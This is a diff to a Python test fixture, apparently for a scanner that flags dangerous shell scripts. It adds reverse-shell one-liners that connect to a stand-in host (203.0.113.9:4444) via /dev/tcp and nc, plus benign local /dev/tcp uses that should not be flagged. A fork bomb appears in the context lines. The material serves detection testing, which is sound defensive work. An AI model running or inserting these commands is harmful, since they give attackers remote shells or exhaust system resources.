@@ -670,8 +670,17 @@ EXAMPLES: dict[str, tuple[str | None, tuple[str, ...], tuple[str, ...]]] = {
     "fork-bomb": ("scripts/run.sh", (":(){ :|:& };:",), ("echo done",)),
     "reverse-shell": (
         "scripts/run.sh",
-        ("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "nc -e /bin/sh 203.0.113.9 4444"),
-        ("nc -z localhost 8080", "exec 3<>/dev/tcp/127.0.0.1/8082"),
+        (
+            "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
+            "nc -e /bin/sh 203.0.113.9 4444",
+            "exec 5<>/dev/tcp/203.0.113.9/4444\ncat <&5 | while read line; do $line 2>&5 >&5; done",
+            "exec 196<>/dev/tcp/203.0.113.9/4444\nsh <&196 >&196 2>&196",
+        ),
+        (
+            "nc -z localhost 8080",
+            "exec 3<>/dev/tcp/127.0.0.1/8082",
+            'exec 3<>/dev/tcp/"$server"/"$port" || return 1\nprintf "QUIT\\r\\n" >&3',
+        ),
     ),
     "persistence": (
         "scripts/run.sh",
